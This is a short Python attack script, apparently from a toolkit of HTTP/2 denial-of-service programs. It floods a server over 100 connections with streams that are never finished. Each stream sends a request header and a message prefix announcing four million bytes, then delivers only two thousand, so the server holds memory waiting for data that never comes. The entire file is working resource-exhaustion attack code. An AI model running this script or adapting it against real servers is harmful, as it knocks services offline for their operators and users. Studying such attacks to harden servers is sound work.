"""Messages that begin and never end: a prefix that announces much, and little of it."""
from attack_program import MATCH, program
from h2wire import DATA, END_HEADERS, HEADERS, frame, request_block

AT_ONCE = 20
ANNOUNCED = 4_000_000


def run(attack):
    headers = request_block(MATCH)
    body = b"\x00" + ANNOUNCED.to_bytes(4, "big") + bytes(attack.options.sent)

    def one(number):
        return frame(HEADERS, END_HEADERS, number, headers) + frame(DATA, 0, number, body)
    attack.flood(lambda connection, _: b"".join(one(connection.stream()) for _ in range(AT_ONCE)), attack.options.count // AT_ONCE)


if __name__ == "__main__":
    program(__doc__, run, count=10_000, connections=100, megabytes=60, sent=2000)
